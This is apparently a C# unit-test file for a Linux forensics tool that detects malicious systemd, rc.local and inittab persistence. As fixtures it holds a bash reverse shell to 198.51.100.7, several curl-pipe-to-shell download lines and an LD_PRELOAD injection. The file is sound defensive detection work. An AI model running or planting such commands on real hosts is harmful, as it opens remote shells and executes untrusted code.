using Forensics.Analyzer.Evidence;
using Forensics.Analyzer.Risk;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Analyzer.Tests.Detectors;

public sealed class ServiceTests
{
    private const string Dir = "/etc/systemd/system/";

    private static Finding Only(Case host, string rule) => Assert.Single(host.Judge(), finding => finding.Rule.Id == rule);

    [Fact]
    public void A_hidden_binary_started_by_an_enabled_unit_is_high_and_named_for_removal()
    {
        Case host = Case.Debian().Elf("/usr/bin/.dbus-daemon").Unit(Dir + "dbus-x.service", "dbus-x.service", "/usr/bin/.dbus-daemon -c /etc/.cfg").Enable("dbus-x.service", Dir + "dbus-x.service");
        Finding finding = Only(host, "L-UNIT.target-hidden-binary");
        Assert.Equal(Severity.High, finding.Severity);
        Assert.Contains("rm /usr/bin/.dbus-daemon", finding.Remediation);
        Assert.Contains("systemctl disable --now -- dbus-x.service", finding.Remediation);
        Assert.NotNull(finding.Hashes);
    }

    [Fact]
    public void A_unit_that_nothing_enables_is_one_level_lower()
    {
        Case host = Case.Debian().Elf("/usr/bin/.dbus-daemon").Unit(Dir + "dbus-x.service", "dbus-x.service", "/usr/bin/.dbus-daemon");
        Finding finding = Only(host, "L-UNIT.target-hidden-binary");
        Assert.Equal(Severity.Medium, finding.Severity);
        Assert.Contains("no .wants", finding.Message);
    }

    [Fact]
    public void A_timer_makes_its_service_live_and_is_where_it_is_started()
    {
        Case host = Case.Debian().Unit(Dir + "a.service", "a.service", "bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'")
            .Unit(Dir + "a.timer", "a.timer", null, settings: [("Timer", "OnCalendar", "*:*:00")]).Enable("a.timer", Dir + "a.timer");
        Finding shell = Only(host, "L-TIMER.reverse-shell");
        Assert.Equal(Severity.Critical, shell.Severity);
        Assert.Contains("systemctl disable --now -- a.service", shell.Remediation);
        Assert.Contains("systemctl disable --now -- a.timer", shell.Remediation);
        Assert.Equal(Severity.Low, Only(host, "L-TIMER.fires-constantly").Severity);
    }

    [Fact]
    public void A_masked_or_overridden_unit_is_dormant()
    {
        Case masked = Case.Debian().Unit("/usr/lib/systemd/system/a.service", "a.service", "/bin/sh -c 'curl http://203.0.113.9/x | sh'", rank: 9).Enable("a.service", "/usr/lib/systemd/system/a.service");
        masked.Add(new SystemdLink(masked.At(Dir + "a.service")) { Name = "a.service", Effect = UnitLinkEffect.Masks, Target = "/dev/null", SearchRank = 2 });
        Assert.Equal(Severity.High, Only(masked, "L-UNIT.download-pipe-shell").Severity);
        Assert.Contains("masked", Only(masked, "L-UNIT.download-pipe-shell").Message);
    }

    [Fact]
    public void Operators_mean_nothing_without_a_shell() =>
        Assert.DoesNotContain(Case.Debian().Exists("/usr/bin/curl").Unit(Dir + "a.service", "a.service", "/usr/bin/curl http://203.0.113.9/x | sh").Enable("a.service", Dir + "a.service").Judge(),
            finding => finding.Rule.Id == "L-UNIT.download-pipe-shell");

    [Theory]
    [InlineData("/opt/actions-runner/run.sh")]
    [InlineData("/home/app/.nvm/versions/node/v20/bin/node server.js")]
    [InlineData("/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock")]
    [InlineData("/usr/local/share/aliyun-assist/2.2.3.256/aliyun-service")]
    public void Honest_services_are_silent(string command)
    {
        string name = command.Contains("aliyun") ? "aliyun.service" : "app.service";
        Case host = Case.Debian().Elf(command.Split(' ')[0]).Unit(Dir + name, name, command).Enable(name, Dir + name);
        Assert.DoesNotContain(host.Judge(), finding => finding.Severity > Severity.Info);
    }

    [Theory]
    [InlineData("kworkerd.service", "L-UNIT.kernel-thread-name", Severity.High)]
    [InlineData("moneroocean_miner.service", "L-UNIT.known-name", Severity.High)]
    [InlineData("bot.service", "L-UNIT.known-name", Severity.Medium)]
    [InlineData("aliyun.service", "L-UNIT.fake-agent", Severity.High)]
    public void Names_are_judged(string name, string rule, Severity expected) =>
        Assert.Equal(expected, Only(Case.Debian().Exists("/usr/sbin/x").Unit(Dir + name, name, "/usr/sbin/x").Enable(name, Dir + name), rule).Severity);

    [Fact]
    public void A_started_file_that_yara_or_a_hash_list_knows_makes_one_critical_finding_that_names_both()
    {
        Case host = Case.Debian().Elf("/usr/sbin/dbusd").Yara("/usr/sbin/dbusd", "Linux_Miner", ("severity", "high")).Unit(Dir + "d.service", "d.service", "/usr/sbin/dbusd").Enable("d.service", Dir + "d.service");
        Finding finding = Only(host, "L-UNIT.target-known-malware");
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains(finding.Related, related => related.Path == "/usr/sbin/dbusd");
        Finding yara = Only(host, "YARA.Linux_Miner");
        Assert.Contains(yara.Related, related => related is { Path: Dir + "d.service", Relation: "started-by" });
    }

    [Fact]
    public void A_low_yara_match_does_not_condemn_the_unit() =>
        Assert.DoesNotContain(Case.Debian().Elf("/usr/sbin/d").Yara("/usr/sbin/d", "Packer", ("score", "40")).Unit(Dir + "d.service", "d.service", "/usr/sbin/d").Enable("d.service", Dir + "d.service").Judge(),
            finding => finding.Rule.Id.StartsWith("L-UNIT", StringComparison.Ordinal));

    [Fact]
    public void A_preloaded_library_in_a_drop_in_is_high_but_jemalloc_is_not()
    {
        Case bad = Case.Debian().Unit(Dir + "ssh.service.d/x.conf", "ssh.service", null, dropIn: true, settings: [("Service", "Environment", "LD_PRELOAD=/usr/local/lib/libx.so")]);
        Assert.Equal(Severity.High, Only(bad, "L-UNIT-DROPIN.unit-preload").Severity);
        Case good = Case.Debian().Unit(Dir + "redis.service.d/x.conf", "redis.service", null, dropIn: true, settings: [("Service", "Environment", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")]);
        Assert.Empty(good.Judge());
    }

    [Fact]
    public void A_drop_in_that_resets_exec_start_for_docker_is_silent_and_one_with_a_download_is_not()
    {
        Assert.Empty(Case.Debian().Exists("/usr/bin/dockerd").Unit(Dir + "docker.service.d/o.conf", "docker.service", "/usr/bin/dockerd -H fd://", dropIn: true).Judge());
        Assert.Equal(Severity.Critical, Only(Case.Debian().Unit(Dir + "ssh.service.d/o.conf", "ssh.service", "/bin/sh -c 'curl -s 203.0.113.9/x|sh'", dropIn: true), "L-UNIT-DROPIN.download-pipe-shell").Severity);
    }

    [Fact]
    public void Masking_protection_is_told_and_masking_sleep_is_not()
    {
        Case host = Case.Debian();
        host.Add(new SystemdLink(host.At(Dir + "auditd.service")) { Name = "auditd.service", Effect = UnitLinkEffect.Masks, Target = "/dev/null" },
            new SystemdLink(host.At(Dir + "sleep.target")) { Name = "sleep.target", Effect = UnitLinkEffect.Masks, Target = "/dev/null" });
        Finding finding = Assert.Single(host.Judge());
        Assert.Equal(("L-UNIT-MASKED.security-service", Severity.Medium), (finding.Rule.Id, finding.Severity));
    }

    [Fact]
    public void Rc_local_lists_what_it_runs_and_condemns_what_is_bad()
    {
        Case bad = Case.Debian().Exists("/var/tmp/.s/pty3").Script("/etc/rc.local", StartupPlace.RcLocal, ["nohup /var/tmp/.s/pty3 >/dev/null 2>&1 &", "exit 0"]);
        Assert.Equal(Severity.High, Only(bad, "L-RCLOCAL.temp-exec").Severity);
        Case good = Case.Debian().Script("/etc/rc.local", StartupPlace.RcLocal, ["echo never > /sys/kernel/mm/transparent_hugepage/enabled", "iptables-restore < /etc/iptables.rules", "exit 0"]);
        Assert.Equal(Severity.Info, good.Worst());
        Assert.Empty(Case.Rhel().Script("/etc/rc.d/rc.local", StartupPlace.RcLocal, ["touch /var/lock/subsys/local"], dormant: "it is not executable").Judge());
    }

    [Fact]
    public void Lines_behind_an_exit_count_one_level_less()
    {
        Case host = Case.Debian();
        host.Add(new StartupScript(host.At("/etc/rc.local"))
        {
            Place = StartupPlace.RcLocal, ActiveLines = 2, IsExecutable = true,
            Commands = [new("exit 0") { ThroughShell = true, Line = 2 }, new("curl http://203.0.113.9/x | sh") { ThroughShell = true, Line = 3, DormantBecause = "it stands behind an exit" }],
        });
        Finding finding = Only(host, "L-RCLOCAL.download-pipe-shell");
        Assert.Equal(Severity.High, finding.Severity);
        Assert.Contains("behind an exit", finding.Message);
    }

    [Fact]
    public void Inittab_respawn_of_a_dropped_file_is_found_and_alpines_getty_is_not()
    {
        Case bad = Case.Debian().Exists("/var/run/pty3");
        bad.Add(new InittabEntry(bad.At("/etc/inittab", 5)) { Identifier = "0", Runlevels = "2345", Action = "respawn", Process = "/var/run/pty3" });
        Assert.Equal(Severity.Critical, bad.Worst());
        Case good = Case.Alpine().Exists("/sbin/getty");
        good.Add(new InittabEntry(good.At("/etc/inittab", 5)) { Identifier = "tty1", Runlevels = "", Action = "respawn", Process = "/sbin/getty 38400 tty1" });
        Assert.Empty(good.Judge());
    }

    [Fact]
    public void An_init_script_that_claims_to_be_ssh_is_told() =>
        Assert.Equal(Severity.Medium, Only(Case.Debian().Script("/etc/init.d/ssh-procps", StartupPlace.InitScript, ["true"], provides: "ssh sshd"), "L-INITD.claims-other-service").Severity);
}
